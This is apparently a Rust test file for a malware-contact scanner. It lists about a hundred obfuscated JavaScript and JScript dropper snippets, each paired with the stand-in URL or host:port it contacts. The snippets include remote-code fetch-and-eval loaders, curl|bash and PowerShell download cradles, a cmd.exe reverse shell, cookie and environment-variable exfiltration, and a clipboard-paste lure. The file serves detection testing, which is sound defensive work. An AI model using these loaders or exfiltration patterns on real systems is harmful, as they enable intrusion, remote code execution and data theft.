//! Scripts of JavaScript in further manners of droppers, each with what it contacts: URLs, or hosts
//! with their ports.

use super::run;
use crate::told::contacts;

/// Script and contacts.
const FORMS: &[(&str, &[&str])] = &[
    (
        "var a = new ActiveXObject(\"MSXML2.XMLHTTP\"); var p = [\"http:\",\"\",\"192.0.2.10\",\"a\"].join(\"/\");\na.open(\"GET\", p, false); a.send(); if (a.Status == 200) { var s = new ActiveXObject(\"ADODB.Stream\"); s.Open(); s.Type = 1; s.Write(a.ResponseBody); s.SaveToFile(\"a.exe\", 2); }\n",
        &["http://192.0.2.10/a"],
    ),
    (
        "var _0x4a2b=['1234567abcdef','http://','192.0.2','.11/a','log','get','7654abcd'];\n(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4a2b,0x3));\nvar _0x55=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0x4a2b[_0x1];return _0x3;};\nconst http=require('http');\nhttp[_0x55('0x1')||'get']?0:0;\nrequire('http').get(_0x4a2b.filter(function(x){return /http|192|11/.test(x)}).sort(function(a,b){return (a[0]=='h'?0:a[0]=='1'?1:2)-(b[0]=='h'?0:b[0]=='1'?1:2)}).join(''));\n",
        &["http://192.0.2.11/a"],
    ),
    (
        "function _0x5f2a(){const _0x1=['192.0.2.12','11LkQpNz','http://','4fGhJkL','/a','get','3000000xAbCdE','http'];_0x5f2a=function(){return _0x1;};return _0x5f2a();}\nfunction _0x3c1d(_0xa,_0xb){const _0xc=_0x5f2a();return _0x3c1d=function(_0xd,_0xe){_0xd=_0xd-0x64;let _0xf=_0xc[_0xd];return _0xf;},_0x3c1d(_0xa,_0xb);}\n(function(_0x1,_0x2){const _0x3=_0x3c1d,_0x4=_0x1();while(!![]){try{const _0x5=-parseInt(_0x3(0x65))/0x1*(parseInt(_0x3(0x67))/0x2)+parseInt(_0x3(0x6a))/0x3;if(_0x5===_0x2)break;else _0x4['push'](_0x4['shift']());}catch(_0x6){_0x4['push'](_0x4['shift']());}}}(_0x5f2a,0xf4240-0x16));\nconst q=_0x3c1d;require(q(0x6b))[q(0x69)](q(0x66)+q(0x64)+q(0x68));\n",
        &["http://192.0.2.12/a"],
    ),
    (
        "function rc4(key,str){var s=[],j=0,x,res='';for(var i=0;i<256;i++){s[i]=i;}for(i=0;i<256;i++){j=(j+s[i]+key.charCodeAt(i%key.length))%256;x=s[i];s[i]=s[j];s[j]=x;}i=0;j=0;for(var y=0;y<str.length;y++){i=(i+1)%256;j=(j+s[i])%256;x=s[i];s[i]=s[j];s[j]=x;res+=String.fromCharCode(str.charCodeAt(y)^s[(s[i]+s[j])%256]);}return res;}\nvar c=rc4('k','http://192.0.2'+'.13/a');\nvar h=new ActiveXObject('WinHttp.WinHttpRequest.5.1');h.Open('GET',rc4('k',c),false);h.Send();\n",
        &["http://192.0.2.13/a"],
    ),
    (
        "var o='3|1|0|2'.split('|'),i=0,u;while(!![]){switch(o[i++]){case'0':u+='.14/a';continue;case'1':u+='192.0.2';continue;case'2':require('https');require('http').get(u);continue;case'3':u='http://';continue;}break;}\n",
        &["http://192.0.2.14/a"],
    ),
    (
        "var f=(function(){var t=true;return function(c,fn){var r=t?function(){if(fn){var x=fn.apply(c,arguments);fn=null;return x;}}:function(){};t=false;return r;};}());\nvar g=f(this,function(){return g.toString().search('(((.+)+)+)+$').toString().constructor(g).search('(((.+)+)+)+$');});g();\n(function(){(function(){return true;}).constructor('debu'+'gger').call('action');}());\nfetch(['http://192.0.2','15/a'].join('.'));\n",
        &["http://192.0.2.15/a"],
    ),
    (
        "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2 3();1.4(\"5\",\"6://7.8.9.10/11\",12);1.13()',14,14,'var|x|new|XMLHttpRequest|open|GET|http|192|0|2|16|a|true|send'.split('|'),0,{}))\n",
        &["http://192.0.2.16/a"],
    ),
    (
        "[][\"filter\"][\"constructor\"](\"return fetch('http://192.0.2'+'.17/a')\")();\n",
        &["http://192.0.2.17/a"],
    ),
    (
        "(0,[].constructor.constructor)(\"var x=new XMLHttpRequest();x.open('GET','http://192.0.2'+'.18/a');x.send()\")();\n",
        &["http://192.0.2.18/a"],
    ),
    ("eval(atob(\"ZmV0Y2goJ2h0dHA6Ly8xOTIuMC4yJysnLjE5L2EnKQ==\"));\n", &["http://192.0.2.19/a"]),
    (
        "document.write(unescape(\"%3Cscript%20src%3D%22http%3A//192.0.2.20/a%22%3E%3C/script%3E\"));\n",
        &["http://192.0.2.20/a"],
    ),
    (
        "(function(){var s=document.createElement('script');s.async=true;s.src='http://'+'192.0.2.21'+'/a.js';var t=document.getElementsByTagName('script')[0];t.parentNode.insertBefore(s,t);})();\n",
        &["http://192.0.2.21/a.js"],
    ),
    (
        "var i=document.createElement('iframe');i.setAttribute('src',['http:','','192.0.2.22','f'].join('/'));i.width=0;document.body.appendChild(i);\n",
        &["http://192.0.2.22/f"],
    ),
    (
        "(new Image()).src='http://192.0.2.'+23+'/c?d='+encodeURIComponent(document.cookie);\n",
        &["http://192.0.2.23/c?d="],
    ),
    (
        "navigator.sendBeacon('http://192.0'+'.2.24/b', JSON.stringify({c:document.cookie}));\n",
        &["http://192.0.2.24/b"],
    ),
    (
        "var w=new WebSocket('ws://192.0'+'.2.25:8080/s');w.onmessage=function(e){eval(e.data)};\n",
        &["ws://192.0.2.25:8080/s"],
    ),
    ("window.location.replace('http://192.0'+'.2.26/1');\n", &["http://192.0.2.26/1"]),
    ("top.location.href='http://192.0'+'.2.27/1';\n", &["http://192.0.2.27/1"]),
    ("setTimeout(\"location='http://192.0'+'.2.28/1'\", 1000);\n", &["http://192.0.2.28/1"]),
    (
        "const http=require('http');const r=http.request({host:'192.0'+'.2.29',port:8081,path:'/p?q=1',method:'POST'},()=>{});r.write('x');r.end();\n",
        &["http://192.0.2.29:8081/p?q=1"],
    ),
    (
        "const https=require(\"https\"),os=require(\"os\");const t=JSON.stringify({h:os.hostname(),d:__dirname,n:os.networkInterfaces()});\nvar o={hostname:[\"x\",\"example\",\"com\"].join(\".\"),port:443,path:\"/a\",method:\"POST\",headers:{\"Content-Type\":\"application/x-www-form-urlencoded\",\"Content-Length\":t.length}};\nvar q=https.request(o,(res)=>{res.on(\"data\",(d)=>{process.stdout.write(d);});});q.on(\"error\",(e)=>{});q.write(t);q.end();\n",
        &["https://x.example.com/a"],
    ),
    (
        "require('dns').lookup(['abc','x','example','net'].join('.'),()=>{});\n",
        &["abc.x.example.net"],
    ),
    (
        "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"cmd.exe\",[]);var c=new net.Socket();c.connect(4444,[\"192\",\"0\",\"2\",\"30\"].join(\".\"),function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});return /a/;})();\n",
        &["192.0.2.30:4444"],
    ),
    (
        "const net=require('net');const s=net.createConnection({port:5555,host:['192','0','2','31'].join('.')},()=>{s.write('hi')});\n",
        &["192.0.2.31:5555"],
    ),
    (
        "const tls=require('node:tls');const s=tls.connect(8443,['192','0','2','32'].join('.'),{},()=>{});\n",
        &["192.0.2.32:8443"],
    ),
    (
        "const d=require('dgram').createSocket('udp4');d.send(Buffer.from('a'),0,1,5353,['192','0','2','33'].join('.'));\n",
        &["192.0.2.33:5353"],
    ),
    (
        "require('child_process').exec('curl -s '+['http:','','192.0.2.34','a.sh'].join('/')+' | bash');\n",
        &["http://192.0.2.34/a.sh"],
    ),
    (
        "const {spawn}=require('child_process');spawn('powershell.exe',['-NoProfile','-Command',\"iex(iwr '\"+['http:','','192.0.2.35','a.ps1'].join('/')+\"' -useb)\"],{detached:true,stdio:'ignore'});\n",
        &["http://192.0.2.35/a.ps1"],
    ),
    (
        "require(\"child_process\").execSync(\"certutil -urlcache -f \"+\"http://192.0\"+\".2.36/a.exe\"+\" %TEMP%\\\\a.exe && %TEMP%\\\\a.exe\");\n",
        &["http://192.0.2.36/a.exe"],
    ),
    (
        "const axios=require('axios');(async()=>{const r=await axios.get('http://192.0'+'.2.37/api');eval(r.data)})();\n",
        &["http://192.0.2.37/api"],
    ),
    (
        "require('axios')({method:'post',url:'http://192.0'+'.2.38/api',data:{}}).then(r=>eval(r.data.code));\n",
        &["http://192.0.2.38/api"],
    ),
    (
        "const c=require('axios').create({baseURL:'http://192.0'+'.2.39/v1'});c.get('/x').then(r=>eval(r.data));\n",
        &["http://192.0.2.39/v1/x"],
    ),
    (
        "const got=require('got');got('http://192.0'+'.2.40/g').then(r=>eval(r.body));\n",
        &["http://192.0.2.40/g"],
    ),
    (
        "const fetch=require('node-fetch');fetch('http://192.0'+'.2.41/g').then(r=>r.text()).then(eval);\n",
        &["http://192.0.2.41/g"],
    ),
    (
        "const request=require('request');request('http://192.0'+'.2.42/g',(e,r,b)=>{eval(b)});\n",
        &["http://192.0.2.42/g"],
    ),
    (
        "require('request').post({url:'http://192.0'+'.2.43/g',form:{a:1}},function(){});\n",
        &["http://192.0.2.43/g"],
    ),
    (
        "const b='http://192.0'+'.2.44/';\nrequire('superagent').get(b+'1').end(()=>{});\nrequire('needle').get(b+'2',()=>{});\nrequire('undici').request(b+'3');\nrequire('phin')(b+'4');\n",
        &[
            "http://192.0.2.44/1",
            "http://192.0.2.44/2",
            "http://192.0.2.44/3",
            "http://192.0.2.44/4",
        ],
    ),
    (
        "const WebSocket=require('ws');const w=new WebSocket('ws://192.0'+'.2.45:9000');w.on('message',m=>eval(m.toString()));\n",
        &["ws://192.0.2.45:9000"],
    ),
    (
        "const io=require('socket.io-client');const s=io('http://192.0'+'.2.46:3000');s.on('cmd',c=>eval(c));\n",
        &["http://192.0.2.46:3000"],
    ),
    (
        "import https from 'node:https';\nimport { exec } from 'node:child_process';\nhttps.get('https://192.0'+'.2.47/m', (r) => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
        &["https://192.0.2.47/m"],
    ),
    (
        "import fs from 'fs';\nconst r = await fetch('https://192.0'+'.2.48/m');\nfs.writeFileSync('a.bin', Buffer.from(await r.arrayBuffer()));\n",
        &["https://192.0.2.48/m"],
    ),
    (
        "const u='https://192.0'+'.2.49/m.mjs';\nimport(u).then(m=>m.default());\n",
        &["https://192.0.2.49/m.mjs"],
    ),
    (
        "const {request}=require('https');const u=new URL(['https:/','discord.example.com','api/webhooks/1/a'].join('/'));const q=request({hostname:u.hostname,path:u.pathname,method:'POST'});q.end('{}');\n",
        &["https://discord.example.com/api/webhooks/1/a"],
    ),
    (
        "var z=this['Act'+'iveXO'+'bject'];var q=new z('MSX'+'ML2.XM'+'LHTTP');q['o'+'pen']('GE'+'T','http://192.0'+'.2.52/h',!1);q['se'+'nd']();\n",
        &["http://192.0.2.52/h"],
    ),
    (
        "new ActiveXObject(\"Shell.Application\").ShellExecute(\"msiexec\",\"/q /i \"+\"http://192.0\"+\".2.54/h\",\"\",\"open\",0);\n",
        &["http://192.0.2.54/h"],
    ),
    (
        "GetObject(\"winmgmts:root\\\\cimv2:Win32_Process\").Create(\"mshta \"+\"http://192.0\"+\".2.55/h\",null,null,null);\n",
        &["http://192.0.2.55/h"],
    ),
    (
        "var sc=new ActiveXObject(\"MSScriptControl.ScriptControl\");sc.Language=\"VBScript\";sc.ExecuteStatement('CreateObject(\"WScript.Shell\").Run \"mshta http://192.0\" & \".2.56/h\"');\n",
        &["http://192.0.2.56/h"],
    ),
    (
        "var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(WScript.ScriptFullName,1);var a=f.ReadAll();f.Close();\nvar p=a.lastIndexOf(\"//##\");eval(a.substr(p+4).split(\"\").reverse().join(\"\"));\n//##;)\"h/75.2.0.291//:ptth athsm\"(nuR.)\"llehS.tpircSW\"(tcejbOXevitcA wen\n",
        &["http://192.0.2.57/h"],
    ),
    (
        "var w=GetObject(\"winmgmts:\\\\\\\\.\\\\root\\\\cimv2\");var e=new Enumerator(w.ExecQuery(\"Select * from Win32_ComputerSystem\"));var n=0;for(;!e.atEnd();e.moveNext()){n++;}\nif(n>=0){var x=new ActiveXObject(\"Msxml2.ServerXMLHTTP.6.0\");x.open(\"POST\",\"http://192.0\"+\".2.58/h\",false);x.setRequestHeader(\"Content-Type\",\"x\");x.send(\"a=1\");}\n",
        &["http://192.0.2.58/h"],
    ),
    (
        "var u=[\"1\",\"2\"];for(var k in u){try{go(\"http://192.0\"+\".2.59/\"+u[k]);}catch(e){}}\nfunction go(x){var h=new ActiveXObject(\"WinHttp.WinHttpRequest.5.1\");h.Open(\"GET\",x,0);h.Send();if(h.Status==200&&h.ResponseText.length>100000000){WScript.Quit();}}\n",
        &["http://192.0.2.59/1", "http://192.0.2.59/2"],
    ),
    (
        "function d(s){var k=arguments.callee.toString().replace(/\\W/g,\"\").length;var o=\"\";for(var i=0;i<s.length;i++)o+=String.fromCharCode(s[i]-k+k);return o;}\nnew ActiveXObject(\"WScript.Shell\").Run(\"mshta \"+d([104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,54,48,47,104]));\n",
        &["http://192.0.2.60/h"],
    ),
    ("jQuery(function($){$.getScript('http://192.0'+'.2.61/h');});\n", &["http://192.0.2.61/h"]),
    (
        "$.ajax({url:'http://192.0'+'.2.62/h',type:'POST',data:{c:document.cookie},success:function(d){eval(d)}});\n",
        &["http://192.0.2.62/h"],
    ),
    ("importScripts(['http:','','192.0.2.63','s.js'].join('/'));\n", &["http://192.0.2.63/s.js"]),
    (
        "var f=document.createElement('form');f.method='POST';f.action=['http:','','192.0.2.64','f'].join('/');document.body.appendChild(f);f.submit();\n",
        &["http://192.0.2.64/f"],
    ),
    (
        "var a=document.createElement('a');a.href=['http:','','192.0.2.65','d.zip'].join('/');a.setAttribute('download','x.zip');document.body.appendChild(a);a.click();\n",
        &["http://192.0.2.65/d.zip"],
    ),
    (
        "module.exports=(function(){const m=module.constructor._load;const h=m('http');h.get('http://192.0'+'.2.69/b');})();\n",
        &["http://192.0.2.69/b"],
    ),
    (
        "global['r']=require;global['m']=module;(async()=>{const h=global['r']('http');h.get(Buffer.from('687474703a2f2f3139322e302e322e37302f62','hex').toString('utf8'))})();\n",
        &["http://192.0.2.70/b"],
    ),
    (
        "require('vm').runInThisContext(\"require('http').get('http://192.0'+'.2.71/b')\");\n",
        &["http://192.0.2.71/b"],
    ),
    (
        "const vm=require('vm');new vm.Script(\"fetch('http://192.0'+'.2.72/b')\").runInNewContext({fetch});\n",
        &["http://192.0.2.72/b"],
    ),
    (
        "const {net}=require('electron');const r=net.request('http://192.0'+'.2.75/b');r.end();\n",
        &["http://192.0.2.75/b"],
    ),
    (
        "const fs=require('fs');const s=fs.readFileSync(__filename,'utf8');const u=s.split('/*@')[2].split('@*/')[0];require('http').get(Buffer.from(u,'base64').toString());\n/*@aHR0cDovLzE5Mi4wLjIuNzYvYg==@*/\n",
        &["http://192.0.2.76/b"],
    ),
    (
        "const p=new Proxy({},{get:(t,k)=>k});const x=new XMLHttpRequest();x[p.open]('GET','http://192.0'+`.2.77/${p.b}`);x[p.send]();\n",
        &["http://192.0.2.77/b"],
    ),
    (
        "var s=new ActiveXObject(\"WScript.Shell\");var e=s.Environment(\"PROCESS\");e(\"ZZ\")=\"http://192.0\"+\".2.78/b\";s.Run(\"cmd /c curl %ZZ% -o %TEMP%\\\\b.exe\",0);\n",
        &["http://192.0.2.78/b"],
    ),
    (
        "/*@cc_on @*/\n/*@if (@_win32) new ActiveXObject(\"WScript.Shell\").Run(\"mshta \"+\"http://192.0\"+\".2.79/b\"); @end @*/\n",
        &["http://192.0.2.79/b"],
    ),
    (
        "var s=\"bx/x0x8x.x2x.x0x.x2x9x1x/x/x:xpxtxtxh\";s=s.replace(/x/g,\"\").replace(/^b/,\"b\");\nnew ActiveXObject(\"MSXML2.XMLHTTP\").open(\"GET\",s.split(\"\").reverse().join(\"\"),false);\nvar q=new ActiveXObject(\"MSXML2.XMLHTTP\");q.open(\"GET\",s.split(\"\").reverse().join(\"\"),false);q.send();\n",
        &["http://192.0.2.80/b"],
    ),
    (
        "var h=(29945008).toString(36)+\"\";var u=\"ht\"+\"tp\"+String.fromCharCode(58,47,47)+[192,0,2,81].join(\".\")+\"/\"+(11).toString(36);fetch(u);\n",
        &["http://192.0.2.81/b"],
    ),
    (
        "const u=[...'iuuq;00:::'].map(c=>String.fromCharCode(c.charCodeAt()-1)).join('').slice(0,7)+'192.0.2.82/b';fetch(u);\n",
        &["http://192.0.2.82/b"],
    ),
    (
        "(function(){var secret='192.0.2.83';function run(c){return eval(c);}run(\"fetch('http://'+secret+'/b')\");})();\n",
        &["http://192.0.2.83/b"],
    ),
    (
        "fetch(new Request('https://192.0'+'.2.84/b',{method:'POST',headers:{Referer:'https://www.example.com/'}}));\n",
        &["https://192.0.2.84/b"],
    ),
    ("fetch(new URL('x/b','https://192.0'+'.2.85/y').href);\n", &["https://192.0.2.85/x/b"]),
    (
        "new EventSource('https://192.0'+'.2.86/b').onmessage=e=>eval(e.data);\n",
        &["https://192.0.2.86/b"],
    ),
    (
        "const l=document.createElement('link');l.rel='prefetch';l.href='https://192.0'+'.2.87/b';document.head.append(l);\n",
        &["https://192.0.2.87/b"],
    ),
    (
        "if(typeof WScript==='undefined'){throw 1;}\nWScript.Sleep(5000);var sh=WScript.CreateObject(\"WScript.Shell\");sh.Run(\"cmd.exe /c powershell -nop \\\"iex(irm http://192.0\"+\".2.88/b)\\\"\",0,false);\n",
        &["http://192.0.2.88/b"],
    ),
    (
        "var t='aHR0cDovLzE5Mi4wLjIuODkvYg';function b64(s){var e={},i,b=0,c,x,l=0,a,r='',w=String.fromCharCode,L=s.length;var A=\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";for(i=0;i<64;i++){e[A.charAt(i)]=i;}for(x=0;x<L;x++){c=e[s.charAt(x)];b=(b<<6)+c;l+=6;while(l>=8){((a=(b>>>(l-=8))&0xff)||(x<(L-2)))&&(r+=w(a));}}return r;}\nfetch(b64(t));\n",
        &["http://192.0.2.89/b"],
    ),
    (
        "const h=require('http2').connect('https://192.0'+'.2.1');h.request({':path':'/a'});\n",
        &["https://192.0.2.1"],
    ),
    (
        "require('https').get({protocol:'https:',hostname:['192','0','2','2'].join('.'),path:'/a',agent:false},()=>{});\n",
        &["https://192.0.2.2/a"],
    ),
    (
        "const {promisify}=require('util');const ex=promisify(require('child_process').exec);ex('wget -qO- '+'http://192.0'+'.2.3/a'+' | sh');\n",
        &["http://192.0.2.3/a"],
    ),
    (
        "require('child_process').spawn('curl',['-s','http://192.0'+'.2.4/a','-o','/tmp/a'],{shell:true}).on('close',()=>{});\n",
        &["http://192.0.2.4/a"],
    ),
    (
        "require('axios').request({baseURL:'http://192.0'+'.2.5/v',url:'/a',method:'get'}).then(r=>eval(r.data));\n",
        &["http://192.0.2.5/v/a"],
    ),
    (
        "import axios from 'axios';\nconst {data}=await axios.get('http://192.0'+'.2.6/a');\nnew Function(data)();\n",
        &["http://192.0.2.6/a"],
    ),
    (
        "const got=require('got');(async()=>{const b=await got('http://192.0'+'.2.7/a').json();eval(b.c)})();\n",
        &["http://192.0.2.7/a"],
    ),
    (
        "const {Client}=require('ssh2');const c=new Client();c.on('ready',()=>{}).connect({host:['192','0','2','8'].join('.'),port:2222,username:'a',password:'b'});\n",
        &["192.0.2.8:2222"],
    ),
    (
        "require('nodemailer').createTransport({host:'smtp.'+'example.com',port:465,secure:true,auth:{user:'a',pass:'b'}}).sendMail({});\n",
        &["smtp.example.com:465"],
    ),
    (
        "const ftp=require('basic-ftp');(async()=>{const c=new ftp.Client();await c.access({host:['192','0','2','10'].join('.'),user:'a',password:'b'});})();\n",
        &["192.0.2.10"],
    ),
    (
        "const s=require('net').connect({host:['192','0','2','11'].join('.'),port:4444});s.on('data',d=>require('child_process').exec(d.toString()));\n",
        &["192.0.2.11:4444"],
    ),
    (
        "const n=require('net');const c=n.createConnection(9001,['192','0','2','12'].join('.'));c.write('x');\n",
        &["192.0.2.12:9001"],
    ),
    (
        "(async()=>{const d=require('dns').promises;const r=await d.resolveTxt(['t','example','net'].join('.'));eval(r[0][0])})();\n",
        &["t.example.net"],
    ),
    (
        "(function(a,k){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return Function(s)();})([...'fetch(\"http://192.0\"+\".2.13/a\")'].map(c=>c.charCodeAt(0)^7),7);\n",
        &["http://192.0.2.13/a"],
    ),
    (
        "const d=new Proxy({},{get:(_,k)=>Buffer.from(k,'base64').toString()});fetch(d['aHR0cDovLzE5Mi4wLjIuMTQvYQ==']);\n",
        &["http://192.0.2.14/a"],
    ),
    (
        "const t=(s,...v)=>s.raw.map((x,i)=>x+(v[i]??'')).join('').split('').reverse().join('');fetch(t`a/51.2.0.${'291'}//:ptth`.replace('291','192'));\n",
        &["http://192.0.2.15/a"],
    ),
    (
        "function* g(){yield 'http://';yield '192.0.2';yield '.16/a';}fetch([...g()].join(''));\n",
        &["http://192.0.2.16/a"],
    ),
    (
        "class C{static #u='http://192.0';static get u(){return C.#u+'.2.17/a'}}fetch(C.u);\n",
        &["http://192.0.2.17/a"],
    ),
    (
        "Reflect.apply(globalThis['fe'+'tch'],globalThis,['http://192.0'+'.2.18/a']);\n",
        &["http://192.0.2.18/a"],
    ),
    (
        "setInterval(()=>{fetch('http://192.0'+'.2.19/a').then(r=>r.text()).then(t=>t&&eval(t))},5000);\n",
        &["http://192.0.2.19/a"],
    ),
    (
        "process.nextTick(()=>require('http').get('http://192.0'+'.2.20/a'));\n",
        &["http://192.0.2.20/a"],
    ),
    (
        "const os=require('os');const u=os.platform()==='win32'?'http://192.0.2.21/w':'http://192.0.2.21/l';require('child_process').exec('curl '+u);\n",
        &["http://192.0.2.21/w", "http://192.0.2.21/l"],
    ),
    (
        "var u='68747470 3a2f2f 3139322e302e322e3232 2f61'.replace(/\\s/g,'').replace(/../g,function(x){return String.fromCharCode(parseInt(x,16))});\nvar h=new ActiveXObject('Msxml2.XMLHTTP');h.open('GET',u,0);h.send();\n",
        &["http://192.0.2.22/a"],
    ),
    (
        "var e=new ActiveXObject('WScript.Shell').Exec('cmd');e.StdIn.WriteLine('curl http://192.0'+'.2.23/a');e.StdIn.Close();\n",
        &["http://192.0.2.23/a"],
    ),
    (
        "var s=new ActiveXObject('Schedule.Service');s.Connect();var f=s.GetFolder('\\\\');var t=s.NewTask(0);var a=t.Actions.Create(0);a.Path='mshta';a.Arguments='http://192.0'+'.2.25/a';f.RegisterTaskDefinition('x',t,6,null,null,3);\n",
        &["http://192.0.2.25/a"],
    ),
    (
        "var d=new ActiveXObject('Scripting.Dictionary');d.Add('a','http://');d.Add('b','192.0.2.26/a');var u='';for(var e=new Enumerator(d.Keys());!e.atEnd();e.moveNext())u+=d.Item(e.item());new ActiveXObject('WScript.Shell').Run('mshta '+u);\n",
        &["http://192.0.2.26/a"],
    ),
    (
        "var d=new ActiveXObject('Scripting.Dictionary');d.Add('http://',1);d.Add('192.0.2.27/a',2);var k=new VBArray(d.Keys()).toArray();new ActiveXObject('WScript.Shell').Run('mshta '+k.join(''));\n",
        &["http://192.0.2.27/a"],
    ),
    (
        "var h=new ActiveXObject('htmlfile');h.parentWindow.execScript('var q=\"http://192.0\"+\".2.28/a\";','JScript');new ActiveXObject('WScript.Shell').Run('mshta '+h.parentWindow.q);\n",
        &["http://192.0.2.28/a"],
    ),
    (
        "fetch('http://192.0'+'.2.29/a').then(r=>r.blob()).then(b=>{const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click();});\n",
        &["http://192.0.2.29/a"],
    ),
    (
        "function cp(){const t=document.createElement('textarea');t.value='powershell -w hidden -c \"iwr http://192.0'+'.2.30/a|iex\"';document.body.appendChild(t);t.select();document.execCommand('copy');navigator.clipboard.writeText(t.value);}document.getElementById('b').onclick=cp;\n",
        &["http://192.0.2.30/a"],
    ),
    (
        "document.body.innerHTML='<svg onload=\"fetch(\\'http://192.0'+'.2.31/a\\')\"></svg>';\n",
        &["http://192.0.2.31/a"],
    ),
    (
        "document.write('<form id=f method=post action=\"http://192.0'+'.2.32/p\"><input name=a value=b></form>');document.getElementById('f').submit();\n",
        &["http://192.0.2.32/p"],
    ),
    (
        "$(document).ready(function(){$('#x').load('http://192.0'+'.2.33/a');});\n",
        &["http://192.0.2.33/a"],
    ),
    (
        "fetch(decodeURIComponent(escape(window.atob('aHR0cDovLzE5Mi4wLjIuMzQvYQ=='))));\n",
        &["http://192.0.2.34/a"],
    ),
    (
        "var n=[3232235555],u='http://'+[192,0,2,35].map(x=>x).join('.')+'/a';XMLHttpRequest.prototype.go=function(){this.open('GET',u);this.send()};new XMLHttpRequest().go();\n",
        &["http://192.0.2.35/a"],
    ),
    ("with({a:'http://192.0',b:'.2.36/a'}){fetch(a+b)}\n", &["http://192.0.2.36/a"]),
    (
        "outer:for(var i=0;;i++){for(;;){if(i>3)break outer;continue outer;}}try{throw '.2.37/a'}catch(e){fetch('http://192.0'+e)}finally{}\n",
        &["http://192.0.2.37/a"],
    ),
    (
        "const p=process?.env?.npm_config_registry??'';const cfg={h:'192.0.2.38',p:'/c'};require('https').request({host:cfg.h,path:cfg.p,method:'POST',headers:{'content-type':'text/plain'}},r=>{}).end(JSON.stringify(process.env));\n",
        &["https://192.0.2.38/c"],
    ),
];

#[test]
fn what_scripts_contact() {
    contacts(FORMS, run);
}
